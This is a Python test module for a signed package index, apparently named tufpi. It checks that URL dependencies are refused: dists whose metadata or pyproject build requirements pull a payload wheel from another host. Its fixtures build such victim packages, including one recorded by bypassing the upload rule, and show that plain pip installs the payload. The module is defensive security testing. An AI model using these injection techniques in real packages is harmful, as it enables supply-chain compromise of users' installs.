"""URL dependencies: a signed distribution whose metadata says
``Requires-Dist: payload @ http://host/payload.whl`` makes pip fetch and install ``payload``
from that host, unverified by the index's signed metadata.

The index refuses such uploads (twine, uv publish, ``tufpi import``), as PyPI does. A
repository signed before that rule may still hold one: the module records a victim wheel and
sdist through the service layer, as the upload API did before the rule (its checks but the
URL rule), and lets the signer publish them. Plain pip installs the payload from the other
host (the attack works); ``tufpi install``, and pip or uv through ``tufpi proxy``, refuse the
victim, say why, and install nothing (the other host is never asked).

What no core metadata shows, an sdist's build requirement on a URL, the index accepts and
plain pip and uv fetch; ``tufpi install`` makes the proxy the installer's only HTTP proxy,
which refuses every other host (``tufpi.client.forward``).

Every test runs on SQLite and PostgreSQL.
"""

from __future__ import annotations

import hashlib
import io
import re
import shutil
import tarfile
from collections.abc import Iterator
from pathlib import Path

import httpx
import pytest
from packaging.metadata import parse_email
from packaging.version import Version

from tests.support import clients
from tests.support.dists import make_dists
from tests.support.importing import run_import
from tests.support.payload_host import PayloadHost, serving
from tests.support.proxy import proxy, tufpi_install
from tests.support.server import IndexServer
from tests.support.tuf_client import first_root, wait_for_target
from tufpi.config import load_settings
from tufpi.index import core_metadata
from tufpi.index.errors import InvalidUpload
from tufpi.index.names import parse_dist_filename
from tufpi.index.upload import InspectedDist, StagedFile, UploadForm, hash_file
from tufpi.services import Services

_ANSI = re.compile(r"\x1b\[[0-9;]*m")
_JSON = "application/vnd.pypi.simple.v1+json"
VICTIM, PAYLOAD = "urld-victim", "urld-payload"
PAYLOAD_WHEEL = "urld_payload-1.0-py3-none-any.whl"
REFUSAL = "declares a direct URL dependency"


@pytest.fixture(autouse=True)
def _wide_output(monkeypatch: pytest.MonkeyPatch) -> None:
    # twine's rich console wraps at 80 columns and may split a long word; give it room.
    monkeypatch.setenv("COLUMNS", "1000")


def _one_line(result: object) -> str:
    out = getattr(result, "stdout", "") + getattr(result, "stderr", "")
    return " ".join(_ANSI.sub("", out).split())


def _installed(target: Path) -> set[str]:
    return {p.name for p in target.glob("*.dist-info")} if target.exists() else set()


# ----- the other host, and a victim signed before the rule -----


@pytest.fixture(scope="module")
def payload_host(workdir: Path) -> Iterator[PayloadHost]:
    served = workdir / "payload-host"
    served.mkdir()
    wheel = next(p for p in make_dists(workdir, PAYLOAD, "1.0") if p.suffix == ".whl")
    assert wheel.name == PAYLOAD_WHEEL
    shutil.copy(wheel, served / wheel.name)
    with serving(served) as host:
        yield host


@pytest.fixture(autouse=True)
def _forget_requests(payload_host: PayloadHost) -> None:
    payload_host.forget()


def url_dependency(host: PayloadHost) -> str:
    return f"{PAYLOAD} @ {host.url}{PAYLOAD_WHEEL}"


def record_as_before_the_rule(server: IndexServer, token: str, path: Path) -> None:
    """Record ``path`` as the upload API did before the URL rule: its core metadata read by
    the index's own reader, its fields the dict ``core_metadata.parse`` returned then
    (packaging's raw fields), and the real service layer below it (staging, rows, pending
    target changes for the running signer). Only the URL rule is left out."""
    dist = parse_dist_filename(path.name)
    data = core_metadata.extract(path, dist)
    with pytest.raises(InvalidUpload, match="Can't have direct dependency"):
        core_metadata.parse(data, dist)  # what the index says now
    raw, unparsed = parse_email(data)
    assert not unparsed
    services = Services.from_settings(load_settings(server.env))
    try:
        who = services.accounts.authenticate(("__token__", token))
        staged = path.parent / f"staged-{path.name}"
        shutil.copy(path, staged)
        form = UploadForm(
            name=VICTIM,
            version=Version("1.0"),
            filetype=dist.packagetype,
            pyversion="py3" if dist.packagetype == "bdist_wheel" else "source",
            metadata_version=str(raw["metadata_version"]),
            sha256_digest=None,
            blake2_256_digest=None,
            md5_digest=None,
            description=None,
        )
        inspected = InspectedDist(dist, StagedFile(staged, hash_file(staged)), data, dict(raw))
        assert services.index.upload(who, form, inspected).created
    finally:
        services.engine.dispose()


@pytest.fixture(scope="module")
def token(index_server: IndexServer) -> str:
    return index_server.new_user("urld")


@pytest.fixture(scope="module")
def victim(
    index_server: IndexServer, token: str, workdir: Path, payload_host: PayloadHost
) -> dict[str, Path]:
    """The victim's sdist and wheel, signed by the index; returns them by kind."""
    dists = make_dists(workdir, VICTIM, "1.0", dependencies=[url_dependency(payload_host)])
    sdist, wheel = sorted(dists, key=lambda p: p.suffix == ".whl")
    for path in (sdist, wheel):
        record_as_before_the_rule(index_server, token, path)
    page = httpx.get(f"{index_server.simple}{VICTIM}/", headers={"accept": _JSON})
    page.raise_for_status()
    assert {f["filename"] for f in page.json()["files"]} == {sdist.name, wheel.name}
    wait_for_target(
        index_server,
        workdir,
        f"simple/{VICTIM}/index.json",
        hashlib.sha256(page.content).hexdigest(),
        timeout=60,
    )
    return {"sdist": sdist, "wheel": wheel}


@pytest.fixture(scope="module")
def trust(index_server: IndexServer) -> list[str]:
    return ["--root-sha256", hashlib.sha256(first_root(index_server)).hexdigest()]


# ----- the index refuses such uploads -----


def _refused_install(
    index_server: IndexServer, trust: list[str], tmp_path: Path, *args: str, installer: str = "pip"
) -> str:
    """``tufpi install ARGS --target T`` must fail and install nothing; its output, on one line."""
    target = tmp_path / "t"
    result = tufpi_install(
        index_server.url,
        tmp_path / "cache",
        trust,
        *args[:-1],
        "--target",
        str(target),
        args[-1],
        installer=installer,
    )
    output = _one_line(result)
    assert result.returncode != 0, output
    assert _installed(target) == set()
    return output


def test_an_upload_with_a_url_dependency_is_refused(
    index_server: IndexServer, token: str, tmp_path: Path, payload_host: PayloadHost
) -> None:
    requirement = url_dependency(payload_host)
    dists = make_dists(tmp_path, "urld-upload", "1.0", dependencies=[requirement])
    for dist in dists:
        result = clients.twine_upload(index_server.url, token, [dist])
        output = _one_line(result)
        assert result.returncode != 0, output
        assert "400 Bad Request" in output
        assert f"Invalid Requires-Dist: Can't have direct dependency: {requirement!r}" in output
        assert f"(core metadata of {dist.name!r})" in output
    result = clients.uv_publish(index_server.url, token, dists[1:])
    assert result.returncode != 0
    assert "Can't have direct dependency" in _one_line(result)
    assert httpx.get(f"{index_server.simple}urld-upload/").status_code == 404


def test_tufpi_import_skips_a_file_with_a_url_dependency(
    index_server: IndexServer, tmp_path: Path, payload_host: PayloadHost
) -> None:
    requirement = url_dependency(payload_host)
    source = tmp_path / "source"
    source.mkdir()
    bad = make_dists(tmp_path, "urld-import", "1.0", dependencies=[requirement])
    good = make_dists(tmp_path, "urld-import", "2.0", dependencies=["idna"])
    for path in bad + good:
        shutil.copy(path, source / path.name)
    result, summary = run_import(index_server, str(source), "--no-publish")
    assert result.returncode == 0, result.stdout + result.stderr
    assert summary["imported"] == 2
    skipped = {Path(s["location"]).name: s for s in summary["skipped"]}
    assert set(skipped) == {p.name for p in bad}
    for entry in skipped.values():
        assert entry["reason"] == "invalid metadata"
        assert f"Can't have direct dependency: {requirement!r}" in entry["detail"]


# ----- the attack, and the verifying client -----


def test_plain_pip_installs_the_payload_from_the_other_host(
    index_server: IndexServer, victim: dict[str, Path], payload_host: PayloadHost, tmp_path: Path
) -> None:
    result = clients.pip_install(index_server.simple, tmp_path, VICTIM)
    assert result.returncode == 0, _one_line(result)
    assert _installed(tmp_path) == {"urld_victim-1.0.dist-info", "urld_payload-1.0.dist-info"}
    assert payload_host.requested() == [f"/{PAYLOAD_WHEEL}"]


def test_tufpi_install_refuses_the_victim_and_installs_nothing(
    index_server: IndexServer,
    victim: dict[str, Path],
    trust: list[str],
    payload_host: PayloadHost,
    tmp_path: Path,
) -> None:
    output = _refused_install(index_server, trust, tmp_path, "--retries", "0", VICTIM)
    expected = (
        f"{victim['wheel'].name!r} {REFUSAL} {url_dependency(payload_host)!r}, which is not a "
        "verified target: refused"
    )
    assert expected in output
    assert payload_host.requested() == []  # the installer has exited: it never asked


def test_pip_and_uv_through_tufpi_proxy_are_refused(
    index_server: IndexServer,
    victim: dict[str, Path],
    trust: list[str],
    payload_host: PayloadHost,
    tmp_path: Path,
) -> None:
    with proxy(index_server.url, tmp_path / "cache", *trust) as simple:
        result = clients.pip_install(simple, tmp_path / "pip", "--retries", "0", VICTIM)
        assert result.returncode != 0
        assert f"{REFUSAL} {url_dependency(payload_host)!r}" in _one_line(result)
        result = clients.uv_pip_install(simple, tmp_path / "uv", VICTIM)
        assert result.returncode != 0
        assert REFUSAL in _one_line(result), _one_line(result)
        # Each way to the dependency list is refused: the PEP 658 file, the wheel, the sdist.
        page = httpx.get(f"{simple}{VICTIM}/", headers={"accept": _JSON}).json()
        base = simple.removesuffix("simple/")
        for entry in page["files"]:
            url = base + entry["url"].removeprefix("../../")
            for each in (url, url + ".metadata") if entry["core-metadata"] else (url,):
                response = httpx.get(each)
                assert response.status_code == 403, each
                assert f"{entry['filename']!r} {REFUSAL}" in response.text
                assert REFUSAL in response.reason_phrase
    assert _installed(tmp_path / "pip") == _installed(tmp_path / "uv") == set()
    assert payload_host.requested() == []


def test_plain_pip_building_the_sdist_fetches_the_payload_too_and_tufpi_refuses_it(
    index_server: IndexServer,
    victim: dict[str, Path],
    trust: list[str],
    payload_host: PayloadHost,
    tmp_path: Path,
) -> None:
    only_sdist = ("--no-binary", VICTIM)
    result = clients.pip_install(index_server.simple, tmp_path / "pip", *only_sdist, VICTIM)
    assert result.returncode == 0, _one_line(result)
    assert "urld_payload-1.0.dist-info" in _installed(tmp_path / "pip")
    assert payload_host.requested() == [f"/{PAYLOAD_WHEEL}"]
    payload_host.forget()

    output = _refused_install(index_server, trust, tmp_path, "--retries", "0", *only_sdist, VICTIM)
    assert f"{victim['sdist'].name!r} {REFUSAL}" in output
    assert payload_host.requested() == []


def test_uv_refuses_a_transitive_url_dependency_itself_and_tufpi_install_with_uv_too(
    index_server: IndexServer,
    victim: dict[str, Path],
    trust: list[str],
    payload_host: PayloadHost,
    tmp_path: Path,
) -> None:
    """What uv does on its own (recorded: uv refuses URL dependencies that are not given as
    direct requirements or constraints), and that tufpi's refusal comes first with uv too."""
    result = clients.uv_pip_install(index_server.simple, tmp_path / "plain", VICTIM)
    assert result.returncode != 0
    assert "URL dependencies must be expressed as direct requirements" in _one_line(result)
    output = _refused_install(index_server, trust, tmp_path, VICTIM, installer="uv")
    assert f"{victim['wheel'].name!r} {REFUSAL} {url_dependency(payload_host)!r}" in output
    assert _installed(tmp_path / "plain") == set()
    assert payload_host.requested() == []


# ----- what the core metadata cannot show: the sdist's build requirements -----

BUILT = "urld-built"


def with_build_requirement(sdist: Path, requirement: str, out: Path) -> Path:
    """``sdist`` whose pyproject.toml requires ``requirement`` to build it: the installer
    installs it in the build environment, and core metadata does not mention it."""
    out.mkdir(parents=True, exist_ok=True)
    rewritten = out / sdist.name
    with tarfile.open(sdist) as source, tarfile.open(rewritten, "w:gz") as target:
        for member in source.getmembers():
            data = source.extractfile(member)
            content = data.read() if data is not None else b""
            if member.name.endswith("/pyproject.toml"):
                content = content.replace(
                    b"requires = []", f"requires = [{requirement!r}]".encode()
                )
                member.size = len(content)
            target.addfile(member, io.BytesIO(content))
    return rewritten


@pytest.fixture(scope="module")
def built(index_server: IndexServer, token: str, workdir: Path, payload_host: PayloadHost) -> Path:
    """An sdist the index accepts (its core metadata names no URL), uploaded with twine."""
    dists = make_dists(workdir, BUILT, "1.0")
    sdist = with_build_requirement(
        next(p for p in dists if p.name.endswith(".tar.gz")),
        url_dependency(payload_host),
        workdir / "built",
    )
    result = clients.twine_upload(index_server.url, token, [sdist])
    assert result.returncode == 0, _one_line(result)
    page = httpx.get(f"{index_server.simple}{BUILT}/", headers={"accept": _JSON})
    wait_for_target(
        index_server,
        workdir,
        f"simple/{BUILT}/index.json",
        hashlib.sha256(page.content).hexdigest(),
        timeout=60,
    )
    return sdist


@pytest.mark.parametrize("installer", ["pip", "uv"])
def test_a_build_requirement_on_a_url_is_refused_at_the_proxy(
    index_server: IndexServer,
    built: Path,
    trust: list[str],
    payload_host: PayloadHost,
    tmp_path: Path,
    installer: str,
) -> None:
    # The attack, past the upload rule: the installer fetches the payload from the other
    # host into the build environment (pip in its build-isolation subprocess).
    install = clients.pip_install if installer == "pip" else clients.uv_pip_install
    result = install(index_server.simple, tmp_path / "plain", BUILT)
    assert result.returncode == 0, _one_line(result)
    assert _installed(tmp_path / "plain") == {"urld_built-1.0.dist-info"}
    # (uv asks more than once: it probes the wheel for its metadata first)
    assert set(payload_host.requested()) == {f"/{PAYLOAD_WHEEL}"}
    payload_host.forget()

    # The core metadata shows nothing: the proxy hands out the sdist and its PEP 658 file.
    with proxy(index_server.url, tmp_path / "proxy-cache", *trust) as simple:
        page = httpx.get(f"{simple}{BUILT}/", headers={"accept": _JSON}).json()
        url = simple.removesuffix("simple/") + page["files"][0]["url"].removeprefix("../../")
        assert httpx.get(url).status_code == 200
        assert httpx.get(url + ".metadata").status_code == 200

    # tufpi install makes the proxy the installer's only HTTP proxy: the fetch is refused.
    args = ["--retries", "0"] if installer == "pip" else []
    output = _refused_install(index_server, trust, tmp_path, *args, BUILT, installer=installer)
    assert "another host than this verifying proxy" in output
    assert f"{payload_host.url}{PAYLOAD_WHEEL}" in output
    assert payload_host.requested() == []


def test_the_proxy_serves_itself_in_absolute_form_and_refuses_other_hosts(
    index_server: IndexServer,
    built: Path,
    trust: list[str],
    payload_host: PayloadHost,
    tmp_path: Path,
) -> None:
    """What an installer with ``--proxy`` / ``HTTP_PROXY`` sends: its own pages as usual,
    any other host (plain HTTP, or CONNECT for HTTPS) refused naming it."""
    with (
        proxy(index_server.url, tmp_path / "cache", *trust) as simple,
        httpx.Client(proxy=simple.removesuffix("simple/")) as through,
    ):
        own = through.get(f"{simple}{BUILT}/", headers={"accept": _JSON})
        assert own.status_code == 200
        assert own.json()["name"] == BUILT
        other = through.get(f"{payload_host.url}{PAYLOAD_WHEEL}")
        assert other.status_code == 403
        assert f"the installer asked for '{payload_host.url}{PAYLOAD_WHEEL}'" in other.text
        with pytest.raises(httpx.ProxyError, match="403"):
            through.get("https://127.0.0.1:9/x.whl")
        # What a user of ``tufpi proxy`` passes pip to have the same guard as tufpi install.
        origin = simple.removesuffix("simple/")
        result = clients.pip_install(simple, tmp_path / "t", "--proxy", origin, BUILT)
        assert result.returncode != 0
        assert "another host than this verifying proxy" in _one_line(result)
    assert _installed(tmp_path / "t") == set()
    assert payload_host.requested() == []
